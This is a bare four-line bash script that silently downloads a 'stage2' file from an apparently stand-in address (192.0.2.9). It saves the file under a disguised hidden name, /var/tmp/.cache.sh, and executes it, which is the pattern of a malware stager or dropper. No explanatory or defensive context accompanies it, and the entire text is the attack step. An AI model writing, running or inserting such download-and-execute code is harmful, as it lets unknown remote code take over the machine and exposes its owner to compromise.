#!/bin/bash
U=http://192.0.2.9/stage2
curl -s "$U" -o /var/tmp/.cache.sh
bash /var/tmp/.cache.sh
